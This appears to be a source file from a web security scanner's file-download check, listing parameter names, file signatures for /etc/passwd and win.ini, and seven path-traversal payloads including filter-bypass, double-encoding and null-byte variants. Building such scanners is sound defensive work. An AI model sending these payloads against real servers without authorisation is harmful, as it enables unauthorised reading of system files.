// Parameter names, traversal payloads and file signatures for the File Download check.

/** Names download handlers give the file they send. */
export const DOWNLOAD_PARAM =
  /^(?:file|files|file_?name|filepath|file_?path|fname|fn|f|path|download|dl|doc|document|docname|attachment|attach|report|pdf|name|resource|asset|item|src|source|target|load|get|fetch)$/i;

/** A value that looks like a file name (with a short extension) is a download candidate whatever its name. */
export function looksLikeFileName(value: string): boolean {
  return /^[\w\-./\\ %]{1,200}\.[A-Za-z0-9]{1,5}$/.test(value) && !/^https?:/i.test(value);
}

export interface FileSignature {
  file: string;
  /** Matches content only the real file has. */
  pattern: RegExp;
}

export const SIGNATURES: Record<'passwd' | 'winini', FileSignature> = {
  passwd: { file: '/etc/passwd', pattern: /root:[^:\r\n]*:0:0:[^\r\n]*/ },
  winini: { file: 'C:\\Windows\\win.ini', pattern: /\[fonts\][\s\S]{0,400}\[extensions\]|; for 16-bit app support[\s\S]{0,200}\[fonts\]/ },
};

export interface TraversalPayload {
  name: string;
  value: string;
  target: keyof typeof SIGNATURES;
}

const UP = '../'.repeat(8);

// Plain relative traversal first: it is what most vulnerable handlers fall to.
export const PAYLOADS: readonly TraversalPayload[] = [
  { name: 'relative traversal', value: `${UP}etc/passwd`, target: 'passwd' },
  { name: 'absolute path', value: '/etc/passwd', target: 'passwd' },
  { name: 'non-recursive "../" strip bypass', value: `${'....//'.repeat(8)}etc/passwd`, target: 'passwd' },
  // sent as text: the parameter's own encoding turns "%2f" into "%252f" for double-decoding servers
  { name: 'double-encoded slashes', value: `${'..%2f'.repeat(8)}etc%2fpasswd`, target: 'passwd' },
  { name: 'null byte before the expected extension', value: `${UP}etc/passwd\u0000.pdf`, target: 'passwd' },
  { name: 'Windows backslash traversal', value: `${'..\\'.repeat(8)}windows\\win.ini`, target: 'winini' },
  { name: 'Windows absolute path', value: 'C:\\Windows\\win.ini', target: 'winini' },
];
